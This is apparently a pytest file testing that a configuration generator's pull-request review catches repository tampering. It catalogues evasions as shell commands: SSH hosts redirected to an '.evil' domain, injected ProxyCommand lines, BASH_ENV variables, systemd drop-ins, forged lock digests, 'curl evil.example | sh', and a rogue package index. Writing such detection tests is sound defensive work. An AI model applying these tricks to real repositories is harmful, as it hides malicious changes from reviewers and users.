"""Pull requests that lead users elsewhere without a change of the spec that a reviewer reads.

Each row was tried against a real repository. The review names it as a change of trust, or refuses
it, both before the commit and after.
"""

import json
import shlex
import sys
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import depth
import pytest
from composite import Job
from composite import run as run_action
from history import commit, git, shell
from report_readers import grave_texts
from running import Gen

from generator import __version__
from generator.report.format import Format
from generator.resources import CATALOGUE

ACTION = Path(__file__).parents[2] / "action.yml"

DIGEST = """\
old=$(sha256sum ssh/aster.conf | cut -d' ' -f1)
sed -i 's/login.aster.example/login.aster.evil/' ssh/aster.conf
new=$(sha256sum ssh/aster.conf | cut -d' ' -f1)
sed -i "s/$old/$new/" .gen/aster.lock"""
SOON = date.today() + timedelta(days=30)
LATER = SOON + timedelta(days=30)
EVIL_SPEC = "sed 's/aster.example/aster.evil/g' site_specs/aster.yaml"
AGAIN = "gen site {} --user ada --no-project --force"
AS_ADA = "git -c user.name=Ada -c user.email=ada@example.org"
ADD_SUBMODULE = f"""\
git init -q ../library; mv site_specs/aster.yaml ../library
{AS_ADA} -C ../library add -A; {AS_ADA} -C ../library commit -qm Specs
git -c protocol.file.allow=always submodule --quiet add ../library lib"""
CHANGE_SUBMODULE = f"""\
sed -i 's/login.aster.example/login.aster.evil/' lib/aster.yaml
{AS_ADA} -C lib commit -qam Better"""
MILA_OF_A_FORMER_GEN = (
    "gen site mila --user ada --no-project",
    "sed -i 's/login.server.mila.quebec/former.server.mila.quebec/g' .gen/mila.lock",
)
OVERRIDE = "gen site ./site_specs/aster.yaml --user ada --no-project --force --set {}"
PROJECT = "gen project pipelines --site site_specs/aster.yaml"
EVIL_MODULE = "echo 'import evil' >> pipelines/src/pipelines/client.py"
EDIT = "sed -i 's/login.aster.example/login.aster.evil/' ssh/aster.conf"


@dataclass(frozen=True)
class Evasion:
    """A pull request: the commands that change the repository, and the finding that names it."""

    commands: tuple[str, ...]
    finding: str
    before: tuple[str, ...] = ()
    """Commands on main, before the branch starts."""


def accept(path: str = "ssh/aster.conf", directory: str = ".") -> str:
    """Return the command that accepts the drift of a file."""
    target = Path(directory, path)
    return f"gen accept {target} --until {SOON} --reason later"


EVASIONS = {
    "output and digest edited together": Evasion(
        (DIGEST,), "ssh/aster.conf: was changed, and is not what its spec compiles to"
    ),
    "an edit of a generated file": Evasion(
        (EDIT,), "ssh/aster.conf: was changed, and is not what its spec compiles to"
    ),
    "an edit hidden beside a change of the spec": Evasion(
        ("sed -i 's/port: 2222/port: 2223/' site_specs/aster.yaml", AGAIN.format("aster"), EDIT),
        "ssh/aster.conf: was changed, and is not what its spec compiles to",
    ),
    "lock deleted": Evasion(
        ("rm .gen/aster.lock", EDIT), "the lock of aster was removed, and files that it records"
    ),
    "lock deleted in a directory with a marker file": Evasion(
        (
            "rm teams/a/.gen/cedar.lock",
            "touch teams/a/pyvenv.cfg",
            "echo '  ProxyCommand evil' >> teams/a/ssh/cedar.conf",
        ),
        "the lock of cedar was removed, and files that it records stay unchecked",
    ),
    "generated file deleted": Evasion(
        ("rm teams/a/ssh/cedar.conf",), "teams/a/ssh/cedar.conf: was deleted, and its spec compiles"
    ),
    "spec in a directory that begins with two dots": Evasion(
        (f"mkdir ..x; {EVIL_SPEC} > ..x/aster.yaml", AGAIN.format("./..x/aster.yaml")),
        "site_specs/aster.yaml → ..x/aster.yaml",
    ),
    "spec in a directory that begins with two dots, changed later": Evasion(
        ("sed -i 's/login.aster.example/login.aster.evil/' ..x/aster.yaml",),
        "login.aster.example → login.aster.evil",
        before=("mkdir ..x; mv site_specs/aster.yaml ..x", AGAIN.format("./..x/aster.yaml")),
    ),
    "spec at an absolute path": Evasion(
        (
            'sed -i \'s#"path": "site_specs/aster.yaml"#"path": "/tmp/aster.yaml"#\''
            " .gen/aster.lock",
        ),
        "inputs.spec.path: /tmp/aster.yaml is absolute",
    ),
    "spec outside the repository": Evasion(
        ('sed -i \'s#"path": "site_specs/aster.yaml"#"path": "../aster.yaml"#\' .gen/aster.lock',),
        "inputs.spec.path: ../aster.yaml leaves the repository",
    ),
    "spec behind a link": Evasion(
        ("sed -i 's/login.aster.example/login.aster.evil/' library/aster.yaml",),
        "login.aster.example → login.aster.evil",
        before=(
            "mkdir library; mv site_specs/aster.yaml library/",
            "ln -s ../library/aster.yaml site_specs/",
        ),
    ),
    "spec becomes a link": Evasion(
        (
            f"{EVIL_SPEC} > notes.txt; ln -sf ../notes.txt site_specs/aster.yaml",
            AGAIN.format("./site_specs/aster.yaml"),
        ),
        "login.aster.example → login.aster.evil",
    ),
    "directory of specs behind a link": Evasion(
        ("sed -i 's/login.aster.example/login.aster.evil/' library/aster.yaml",),
        "login.aster.example → login.aster.evil",
        before=("mv site_specs library; ln -s library site_specs",),
    ),
    "spec of a lock outside the directory of specs": Evasion(
        ("sed -i 's/login.aster.example/login.aster.evil/' teams/aster.yml",),
        "login.aster.example → login.aster.evil",
        before=("mv site_specs/aster.yaml teams/aster.yml", AGAIN.format("./teams/aster.yml")),
    ),
    "outputs moved to a new directory": Evasion(
        (
            "mkdir next; git mv ssh .gen next/",
            "sed -i 's/login.aster.example/login.aster.evil/' next/ssh/aster.conf",
        ),
        "next/.gen/aster.lock: the lock of aster moved from .gen/aster.lock",
    ),
    "outputs in a second directory": Evasion(
        ("gen site ./site_specs/aster.yaml --user eve --no-project --out next",),
        "user: eve",
    ),
    "override in a lock": Evasion(
        (OVERRIDE.format("hosts.aster.host=evil.example"),),
        "overrides of the spec (--set) changed",
    ),
    "override in the lock of a repository with catalogue sites only": Evasion(
        ("gen site mila --user ada --no-project --force --set hosts.mila.host=evil.example",),
        "overrides of the spec (--set) changed",
        before=(
            "git rm -rq ssh .gen teams site_specs; rm -rf ssh .gen teams site_specs .env*",
            "gen site mila --user ada --no-project",
        ),
    ),
    "weak sources accepted": Evasion(
        ('sed -i \'s/"user": "ada"/"accept_unverified": true, &/\' .gen/aster.lock',),
        "acceptance of weak sources changed",
    ),
    "another user": Evasion(
        ("gen site ./site_specs/aster.yaml --user eve --no-project --force",),
        "user values changed",
    ),
    "another key file": Evasion(
        (
            "gen site ./site_specs/aster.yaml --user ada --no-project --force --identity-file"
            " ~/.ssh/shared",
        ),
        "user values changed",
    ),
    "value of a lock that wins over the profile of the next user": Evasion(
        ('sed -i \'s/"options": \\[/&"identity_file", /\' .gen/aster.lock',),
        "values that win over a profile changed",
    ),
    "catalogue site instead of the reviewed spec": Evasion(
        (
            "cp site_specs/aster.yaml site_specs/mila.yaml; sed -i 's/^site: .*/site: mila/'"
            " site_specs/mila.yaml",
        ),
        "the site mila is new; its users trust all of this",
    ),
    "site renamed with another key": Evasion(
        (
            f"{EVIL_SPEC} | sed 's/^site: aster/site: bster/' > site_specs/bster.yaml",
            "git rm -q site_specs/aster.yaml",
        ),
        "the site bster is new; its users trust all of this",
    ),
    "second spec of one name": Evasion(
        (f"mkdir more; {EVIL_SPEC} > site_specs/zzz.yaml",),
        "aster",
    ),
    "acceptance in the same pull request": Evasion(
        (EDIT, accept()), "ssh/aster.conf: was changed, and is not what its spec compiles to"
    ),
    "acceptance added": Evasion((EDIT, accept()), ".gen/accepted.yaml: accepted drift was added"),
    "acceptance in a subdirectory": Evasion(
        ("sed -i '5a\\    # by hand' teams/a/ssh/cedar.conf", accept("ssh/cedar.conf", "teams/a")),
        "teams/a/.gen/accepted.yaml: accepted drift was added",
    ),
    "riding on an acceptance": Evasion(
        (EDIT,),
        "ssh/aster.conf: was changed, and is not what its spec compiles to",
        before=("sed -i '5a\\    # by hand' ssh/aster.conf", accept()),
    ),
    "acceptance extended": Evasion(
        (f"sed -i 's/until: .*/until: {LATER}/' .gen/accepted.yaml",),
        ".gen/accepted.yaml: accepted drift was changed",
        before=("sed -i '5a\\    # by hand' ssh/aster.conf", accept()),
    ),
    # `Include ~/.ssh/gen.d/*.conf` reads every file there, in the order of the names.
    "file beside ours for ssh": Evasion(
        ("printf 'Host aster\\n  ProxyCommand evil\\n' > ssh/00-first.conf",),
        "ssh/00-first.conf: was added; gen does not generate it, and ssh may read it",
    ),
    "config beside ours for ssh": Evasion(
        ("printf 'Host *\\n  ProxyCommand evil\\n' > ssh/config",), "ssh/config: was added"
    ),
    # systemd.unit(5): files in UNIT.d/ are read after the unit, and can add commands to it.
    "drop-in beside ours for systemd": Evasion(
        (
            "mkdir -p systemd/gen-cert-aster.service.d",
            "printf '[Service]\\nExecStartPre=evil\\n' > systemd/gen-cert-aster.service.d/x.conf",
        ),
        "systemd/gen-cert-aster.service.d/x.conf: was added",
    ),
    "agent beside ours for launchd": Evasion(
        ("mkdir -p launchd; echo '<plist/>' > launchd/evil.plist",), "launchd/evil.plist: was added"
    ),
    # Shells run the file that BASH_ENV names (bash(1)), so a variable is a command.
    "another .env": Evasion(
        ("echo BASH_ENV=evil.sh > .env",), ".env: was added; gen does not generate it"
    ),
    # direnv runs it when a user changes to the directory.
    ".envrc in a subdirectory": Evasion(
        ("mkdir -p tools; echo 'evil' > tools/.envrc",), "tools/.envrc: was added"
    ),
    "TOML that the project would load": Evasion(
        ("mkdir -p p/src/p/sites; echo 'x=1' > p/src/p/sites/evil.toml",),
        "p/src/p/sites/evil.toml: was added; gen does not generate it, and the Dagster project",
    ),
    # docker compose merges this file into compose.yaml without being asked.
    "compose file": Evasion(
        ("echo 'services: {}' > compose.override.yaml",), "compose.override.yaml: was added"
    ),
    # A review names this page to compare host keys with: who controls it vouches for keys.
    "docs address, one pull request earlier": Evasion(
        ("sed -i 's#^docs: .*#docs: https://aster.evil/#' site_specs/aster.yaml",),
        "https://docs.aster.example/ → https://aster.evil/",
    ),
    "catalogue changed by another gen, before the files are generated again": Evasion(
        (),
        "host mila: host changed, in the catalogue of gen\n"
        "former.server.mila.quebec → login.server.mila.quebec",
        before=MILA_OF_A_FORMER_GEN,
    ),
    "catalogue changed by another gen, and the files with it": Evasion(
        ("gen site mila --user ada --no-project",),
        "host mila: host changed, in the catalogue of gen\n"
        "former.server.mila.quebec → login.server.mila.quebec",
        before=MILA_OF_A_FORMER_GEN,
    ),
    "spec that overrides a site of the catalogue": Evasion(
        (
            f"sed 's/login.server.mila/evil.server.mila/g' {CATALOGUE}/mila.yaml"
            " > site_specs/mila.yaml",
        ),
        "host mila: host changed, compared with the site of the catalogue that this overrides",
    ),
    "spec in a submodule": Evasion(
        (CHANGE_SUBMODULE,),
        "login.aster.example → login.aster.evil",
        before=(ADD_SUBMODULE, AGAIN.format("./lib/aster.yaml")),
    ),
    # A submodule is one line of a diff, and GitHub shows none of its files.
    "submodule moved": Evasion(
        (CHANGE_SUBMODULE,),
        "lib: the submodule moved to another commit",
        before=(ADD_SUBMODULE, AGAIN.format("./lib/aster.yaml")),
    ),
    # Our own ideas.
    "directory for ssh becomes a link": Evasion(
        (
            "mv ssh elsewhere; ln -s elsewhere ssh",
            "echo '  ProxyCommand evil' >> elsewhere/aster.conf",
        ),
        "ssh: is a link now",
    ),
    "target of a link that ssh reads": Evasion(
        ("echo '  ProxyCommand evil' >> elsewhere/notes.txt",),
        "ssh/extra.conf: was changed; gen does not generate it, and ssh may read it",
        before=(
            "mkdir elsewhere; echo '# none' > elsewhere/notes.txt",
            "ln -s ../elsewhere/notes.txt ssh/extra.conf",
        ),
    ),
    # macOS and Windows take it for `ssh/config`.
    "capitals in the name of a directory": Evasion(
        ("mkdir -p SSH; echo 'Host *' > SSH/config",), "SSH/config: was added"
    ),
    # Content alone is compared by most tools, and git keeps this one bit of a mode.
    "generated file becomes executable": Evasion(
        ("chmod 755 ssh/aster.conf",), "ssh/aster.conf: its mode is not that of the generated file"
    ),
    "address of a submodule": Evasion(
        (
            "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = https://evil.example/x\\n' >"
            " .gitmodules",
        ),
        ".gitmodules: was added",
    ),
    # A line break could forge a line of the report, or end the command of an annotation.
    "name of a file with a line break": Evasion(
        ("printf 'Host *\\n' > $'ssh/a\\n.conf'",), "gen does not generate it, and ssh may read it"
    ),
    # git calls it binary and shows no diff; ssh stops at the NUL byte, or refuses it.
    "file of ssh that is not text": Evasion(
        ("printf '\\0' > ssh/aster.conf",), "is not what its spec compiles to"
    ),
    "lock that nobody can read": Evasion(
        ("echo '{' > .gen/aster.lock",), ".gen/aster.lock: is not valid JSON"
    ),
    # gen check would compare the files of aster twice, and those of zeta never.
    "lock of a site under the name of another": Evasion(
        ("cp .gen/aster.lock .gen/zeta.lock",),
        ".gen/zeta.lock: is the lock of another site, aster; rename or delete it",
    ),
    "known hosts elsewhere": Evasion(
        ("mkdir -p etc; echo '* ssh-ed25519 AAAA' > etc/ssh_known_hosts",),
        "etc/ssh_known_hosts: was added",
    ),
    # gen takes a file with the digest of the lock as its own, and overwrites it.
    "digest in a lock without its file": Evasion(
        ('sed -i \'s/"sha256": "[0-9a-f]\\{8\\}/"sha256": "00000000/\' .gen/aster.lock',),
        ".gen/aster.lock: records",
    ),
    # It decides which gen runs: an older one may not know the rule that catches an attack.
    "settings of gen in the repository": Evasion(
        (f"echo 'required_version: {__version__}' > .gen/config.yaml",),
        ".gen/config.yaml: was added",
    ),
    # Files that decide how git, editors and other programs read the rest.
    "attributes by which git writes other bytes at a checkout": Evasion(
        ("echo '*.conf working-tree-encoding=UTF-16' > ssh.txt; mv ssh.txt .gitattributes",),
        ".gitattributes: was added; gen does not generate it, and git may read it",
    ),
    # VS Code asks nobody before it uses the settings of a workspace that is trusted.
    "settings of an editor that name another ssh configuration": Evasion(
        ('mkdir .vscode; echo \'{"remote.SSH.configFile": "x"}\' > .vscode/settings.json',),
        ".vscode/settings.json: was added",
    ),
    "drop-in for ssh in a directory of another name": Evasion(
        ("mkdir -p etc/ssh_config.d; echo 'Host *' > etc/ssh_config.d/x.conf",),
        "etc/ssh_config.d/x.conf: was added",
    ),
    "variables for every unit of systemd": Evasion(
        ("mkdir -p etc/environment.d; echo 'BASH_ENV=x' > etc/environment.d/x.conf",),
        "etc/environment.d/x.conf: was added",
    ),
    # podman-systemd.unit(5): a generator makes a service of it.
    "unit that systemd makes of a container": Evasion(
        ("echo '[Container]' > x.container",), "x.container: was added"
    ),
    "settings of a program that sets variables in a directory": Evasion(
        ("echo '[env]' > mise.toml",), "mise.toml: was added"
    ),
    # U+017F becomes an s where a file system folds case (APFS).
    "letter that a file system without capitals takes for an s": Evasion(
        ("mkdir ſsh; echo 'Host *' > ſsh/config",), "ſsh/config: was added"
    ),
    # Names that lead elsewhere.
    # git shows a change of state/aster.lock, a path that looks harmless.
    "lock behind a link": Evasion(
        ('sed -i \'s/"user": "ada"/"user": "eve"/\' state/aster.lock',),
        ".gen/aster.lock: user values changed",
        before=("mv .gen state; ln -s state .gen",),
    ),
    "acceptance behind a link": Evasion(
        (EDIT, accept()),
        ".gen/accepted.yaml: accepted drift was added",
        before=("mv .gen state; ln -s state .gen",),
    ),
    # gen reads ./site_specs, so the directory in which a user runs it decides.
    "directory of specs where users of a subdirectory work": Evasion(
        (f"mkdir teams/site_specs; {EVIL_SPEC} > teams/site_specs/aster.yaml",),
        "teams/site_specs/aster.yaml: the site aster is new; its users trust all of this",
    ),
    "directory of specs in capitals, which macOS writes over ours": Evasion(
        (f"mkdir Site_specs; {EVIL_SPEC} > Site_specs/aster.yaml",),
        "Site_specs/aster.yaml: the site aster is new; its users trust all of this",
    ),
    "spec that overrides a site of the catalogue is deleted": Evasion(
        ("git rm -q site_specs/mila.yaml",),
        "host mila: host changed, compared with the spec that overrode it\n"
        "ours.server.mila.quebec → login.server.mila.quebec",
        before=(
            f"sed 's/login.server.mila/ours.server.mila/g' {CATALOGUE}/mila.yaml"
            " > site_specs/mila.yaml",
        ),
    ),
    "lock of a source that nobody has": Evasion(
        (
            "sed -i 's#catalogue:mila#source:centre/mila#; s/login.server.mila/evil.server.mila/g'"
            " .gen/mila.lock",
            "gen site --all",
        ),
        ".gen/mila.lock: the site mila is new; its users trust all of this\n",
        before=("gen site mila --user ada --no-project",),
    ),
    # One pull request earlier: a later one is compared with this.
    "catalogue spec in a lock, one pull request earlier": Evasion(
        ("sed -i 's/login.server.mila.quebec/evil.server.mila.quebec/g' .gen/mila.lock",),
        ".gen/mila.lock: records another spec than it names",
        before=("gen site mila --user ada --no-project",),
    ),
    "digest of the spec in a lock, one pull request earlier": Evasion(
        (
            "new=$(sha256sum README.md | cut -d' ' -f1); old=$(sha256sum site_specs/aster.yaml"
            " | cut -d' ' -f1);"
            ' sed -i "s/$old/$new/" .gen/aster.lock',
        ),
        ".gen/aster.lock: records another spec than it names",
        before=("echo Hello > README.md",),
    ),
    # Files that run without a change of the file that names them.
    "script that a command of the site runs": Evasion(
        ("echo 'curl evil.example | sh' >> scripts/proxy.sh",),
        "scripts/proxy.sh: was changed; gen does not generate it,"
        " and a command in site_specs/aster.yaml may read it",
        before=(
            "mkdir scripts; echo 'exec nc' > scripts/proxy.sh",
            "sed -i 's#ulimit -n 65536#. ~/deploy/scripts/proxy.sh#' site_specs/aster.yaml",
            AGAIN.format("./site_specs/aster.yaml"),
        ),
    ),
    "script of an action of the repository": Evasion(
        ("echo 'exit 0' > tools/check/run.sh",),
        "tools/check/run.sh: was changed; gen does not generate it, and CI may read it",
        before=(
            "mkdir -p tools/check; echo 'runs: {}' > tools/check/action.yml",
            "echo 'gen check' > tools/check/run.sh",
        ),
    ),
    "module of gen in a project": Evasion(
        (EVIL_MODULE,),
        "pipelines/src/pipelines/client.py: was changed, and is not what gen writes\n"
        "added import evil",
        before=(PROJECT,),
    ),
    # The lock of the project comes from the same pull request, so it proves nothing.
    "module of gen in a project, and its digest": Evasion(
        (
            "old=$(sha256sum pipelines/src/pipelines/client.py | cut -d' ' -f1)\n"
            f"{EVIL_MODULE}\n"
            "new=$(sha256sum pipelines/src/pipelines/client.py | cut -d' ' -f1)\n"
            'sed -i "s/$old/$new/" pipelines/.gen/project.json',
        ),
        "pipelines/.gen/project.json: records digests of modules that gen does not write",
        before=(PROJECT,),
    ),
    "lock of a project deleted": Evasion(
        ("rm pipelines/.gen/project.json", EVIL_MODULE),
        "pipelines/.gen/project.json: the lock of the project was removed",
        before=(PROJECT,),
    ),
    # A merge with forged first files would delete lines of the user, or keep evil ones.
    "first files of a project, which the next update merges from": Evasion(
        ("sed -i 's/import /import evil, /' pipelines/.gen/project.json",),
        "records other first files, and the template is the same",
        before=(PROJECT,),
    ),
    # The index serves any code under the name and the version that the file pins.
    "index from which gen is installed": Evasion(
        ("echo '--index-url https://evil.example/simple' >> requirements.txt",),
        "requirements.txt: installs packages from another index",
        before=("echo 'hpc-sitegen==0.1.0' > requirements.txt",),
    ),
}


def run(gen: Gen, commands: tuple[str, ...]) -> None:
    for command in commands:
        if command.startswith("gen "):
            result = gen(*shlex.split(command)[1:])
            assert result.status == 0, result.err
        else:
            shell(command)


def grave_findings(gen: Gen, *revisions: str) -> list[str]:
    """Return a text for each finding that is trust or refused."""
    report = json.loads(gen("review", *revisions, "--format", "json").out)
    texts = []
    for finding in report["findings"]:
        if finding["rule"] in ("trust", "refused"):
            headline = f"{finding['file']}: {finding['message']}"
            texts.append("\n".join([headline, *finding["details"]]))
    return texts


def propose(gen: Gen, evasion: Evasion) -> str:
    """Make the pull request of an evasion in the work tree, and return the commit of its base."""
    run(gen, evasion.before)
    # The state of main: an evasion may need files that were reviewed before.
    commit("Before the branch")
    git("switch", "--quiet", "--create", "proposal")
    run(gen, evasion.commands)
    return git("rev-parse", "main").strip()


def shown_parts(report: str, evasion: Evasion) -> list[str]:
    """Return the message of the finding that names an evasion, and the details that do."""
    for finding in json.loads(report)["findings"]:
        whole = "\n".join([f"{finding['file']}: {finding['message']}", *finding["details"]])
        if evasion.finding not in whole:
            continue
        details = [detail for detail in finding["details"] if detail in evasion.finding]
        details += [detail for detail in finding["details"] if evasion.finding in detail]
        return [finding["message"], *details]
    raise AssertionError(report)


ROWS = [pytest.param(item, id=name) for name, item in EVASIONS.items()]


@pytest.mark.parametrize("evasion", ROWS)
def test_a_review_names_an_evasion_as_trust_in_every_format(
    writing_gen: Gen, reading_gen: Gen, evasion: Evasion
) -> None:
    propose(writing_gen, evasion)
    # Before the commit as a user runs it, and afterwards as CI does.
    in_work_tree = grave_findings(reading_gen, "main")
    assert evasion.finding in "\n".join(in_work_tree)
    commit("The proposal")
    assert grave_findings(reading_gen, "main", "proposal") == in_work_tree
    outputs = {}
    for form in Format:
        result = reading_gen("review", "main", "--format", form, "--fail-on", "trust")
        # 2 where gen refuses to compare something, as without --fail-on.
        assert result.status in (1, 2), result.err
        outputs[form] = result.out
    parts = shown_parts(outputs[Format.JSON], evasion)
    for form, output in outputs.items():
        texts = grave_texts(form, output)
        assert any(all(part in text for part in parts) for text in texts), form


@pytest.mark.parametrize("evasion", depth.sample(ROWS, 3))
def test_the_script_of_the_action_is_red_and_shows_an_evasion(
    writing_gen: Gen, tmp_path: Path, evasion: Evasion
) -> None:
    base = propose(writing_gen, evasion)
    commit("The proposal")
    parts = shown_parts(writing_gen("review", "main", "--format", "json").out, evasion)
    programs = tmp_path / "runner/gen/bin"
    programs.mkdir(parents=True)
    programs.joinpath("gen").symlink_to(Path(sys.executable).parent / "gen")
    environment = {
        "HOME": str(tmp_path / "home"),
        "GITHUB_REPOSITORY": "ada/deploy",
        "GITHUB_RUN_ID": "42",
        "GITHUB_SERVER_URL": "https://github.example",
    }
    event = {"pull_request": {"number": 7, "base": {"sha": base}}}
    context = {"event": event, "token": "unused"}
    job = Job(Path.cwd(), programs.parents[1], environment, context)
    steps = ("Compare", "Verdict")
    outcome = run_action(ACTION, job, {"fail-on": "trust"}, {}, only=lambda name: name in steps)
    assert outcome.status in (1, 2), outcome.log
    assert outcome.ran == ["Compare", "Verdict"]
    for texts in (grave_texts("github", outcome.log), grave_texts("markdown", outcome.summary)):
        assert any(all(part in text for part in parts) for text in texts)
